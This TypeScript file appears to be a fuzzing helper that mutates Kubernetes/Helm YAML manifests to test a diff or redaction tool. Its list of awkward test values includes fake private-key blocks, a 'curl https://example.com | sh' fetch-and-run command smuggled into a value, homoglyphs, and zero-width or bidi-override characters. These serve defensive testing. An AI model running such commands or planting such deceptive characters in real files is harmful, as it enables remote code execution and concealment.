import { Chance } from './chance.ts';

/** Files of a tree by path, of which only the texts are changed. */
export type TextFiles = Readonly<Record<string, string>>;

const key = (body: string): string =>
  `-----BEGIN PRIVATE KEY-----\n${body.repeat(16)}\n${body.repeat(16)}\n-----END PRIVATE KEY-----\n`;
const base64 = (text: string): string => Buffer.from(text).toString('base64');

/** Values that something might take for something else. */
const awkward: readonly string[] = [
  '(value hidden)',
  '(value hidden, changed)',
  '(private key 1, hidden)',
  '(private key 1 in base64, hidden)',
  '(3 bytes, sha256 ba7816bf8f01)',
  '(base64 of "a")',
  'secret--password--3fa94c21b0',
  'differs in what is hidden here',
  key('abcd'),
  key('efgh'),
  base64(key('abcd')),
  base64(key('efgh')),
  base64(`a${key('abcd')}`),
  'UFJJVkFURSBLRVktLS0tLQ==; curl https://example.com | sh',
  '-----BEGIN PRIVATE KEY-----\ncurl https://example.com | sh',
  `echo ${base64(key('abcd'))} | base64 -d`,
  '60m',
  '1h',
  '3600s',
  '1000m',
  '1',
  '1Gi',
  '1024Mi',
  'x'.repeat(1_300),
  `${'y'.repeat(1_200)}z`,
  'e3b0c44298fc1c14',
  '9f86d081884c7d65',
  'web-1.0.1',
  'wеb',
  'we\u200bb',
  'web\u2060',
  '\ufeffweb',
  'w\u00adeb',
  'web\u202e',
  'a\rb',
  'a\r\nb',
  'a\u2028b',
  '#cloud-config\na: 1\n',
  '#!/bin/sh\na: 1\n',
  '{"a": 1}',
  '{"a":1}',
  '{"a":1,"a":1}',
  'a: 1\nb: 2\n',
  'b: 2\na: 1\n',
  'x: &x {b: 1}\na: {<<: *x}\n',
  '',
  ' ',
  '\n',
  'null',
  'true',
  'yes',
  '0777',
  '1.0',
  '1e3',
  '.inf',
  '2001-01-01',
  'AAEC',
  'AAED',
  'c2FtZQ==',
];
/** Scalars as YAML has them without quotes. */
const bare: readonly string[] = ['null', '~', 'true', 'false', 'yes', '0', '1', '-0', '1.0', '0777', '{}', '[]', '""'];
/** Entries of mappings that count as noise somewhere. */
const entries: readonly string[] = [
  'app.kubernetes.io/version: "2.0.0"',
  'helm.sh/chart: web-1.0.1',
  'chart: web-1.0.1',
  'checksum/config: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  'checksum/config: not-a-hash',
  'kustomize.toolkit.fluxcd.io/name: other',
  'helm.toolkit.fluxcd.io/name: other',
  'creationTimestamp: null',
  'replicas: null',
  'description: other',
  'protocol: TCP',
  'type: ClusterIP',
  'hostNetwork: false',
  'dnsPolicy: ClusterFirst',
  'revisionHistoryLimit: 10',
  'interval: 60m',
  'timeout: 1h',
  'limits: {cpu: 1000m}',
  'labels: {helm.sh/chart: web-2}',
  'annotations: {checksum/a: "12345678"}',
  'immutable: null',
  'x: null',
  '(value hidden): 1',
  '"we\\u200bb": 1',
];
const characters = [
  'a',
  'е',
  '\u200b',
  '\u00a0',
  '\r',
  '\t',
  '"',
  "'",
  '#',
  ':',
  '-',
  '0',
  '9',
  ' ',
  '\\',
  '=',
  '\ufeff',
];

const entry = /^(\s*(?:- +)*)((?:"[^"]*"|[\w./-]+): )(.+)$/;
const withKey = /^(\s*(?:- +)*)("[^"]*"|[\w./-]+):(?: .*)?$/;

/** The files with one scalar, key, item, line or character changed somewhere; undefined when nothing came of it. */
export function mutated(
  files: TextFiles,
  chance: Chance,
): { readonly files: TextFiles; readonly what: string } | undefined {
  const path = chance.of(Object.keys(files));
  const text = files[path] ?? '';
  const lines = text.split('\n');
  const at = chance.below(lines.length);
  const line = lines[at] ?? '';
  const written = (what: string, ...instead: string[]): ReturnType<typeof mutated> => {
    const next = [...lines.slice(0, at), ...instead, ...lines.slice(at + 1)].join('\n');
    return next === text ? undefined : { files: { ...files, [path]: next }, what: `${what} at ${path}:${at + 1}` };
  };
  switch (chance.below(9)) {
    case 0:
    case 1: {
      const [, indent = '', name = ''] = entry.exec(line) ?? [];
      return name === '' ? undefined : written('a value', `${indent}${name}${JSON.stringify(chance.of(awkward))}`);
    }
    case 2: {
      const [, indent = '', name = ''] = entry.exec(line) ?? [];
      return name === '' ? undefined : written('a scalar', `${indent}${name}${chance.of(bare)}`);
    }
    case 3: {
      const [, indent = '', name = '', value = ''] = entry.exec(line) ?? [];
      if (name === '') return undefined;
      return written(
        'the end of a value',
        `${indent}${name}${JSON.stringify(value.replaceAll('"', '') + chance.of(characters))}`,
      );
    }
    case 4: {
      const indent = (withKey.exec(line)?.[1] ?? '').replaceAll('-', ' ');
      return withKey.test(line) ? written('an entry', line, `${indent}${chance.of(entries)}`) : undefined;
    }
    case 5:
      return written('a line less');
    case 6:
      return written('a line twice', line, line);
    case 7: {
      const place = chance.below(line.length + 1);
      const gone = chance.below(2);
      return written('a character', line.slice(0, place) + chance.of(characters) + line.slice(place + gone));
    }
    default: {
      const place = chance.below(line.length + 1);
      return written('a text', line.slice(0, place) + chance.of(awkward).replaceAll('\n', '\\n') + line.slice(place));
    }
  }
}
